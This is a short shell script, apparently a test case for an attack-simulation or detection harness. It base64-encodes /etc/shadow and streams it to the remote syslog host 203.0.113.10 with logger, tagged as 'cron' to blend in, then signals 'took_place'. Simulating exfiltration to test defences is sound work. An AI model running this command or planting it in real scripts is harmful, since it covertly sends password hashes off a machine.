#!/bin/sh
. /opt/case/case.sh

base64 -w 200 /etc/shadow | logger --server 203.0.113.10 --port 9000 --tcp --tag cron
took_place
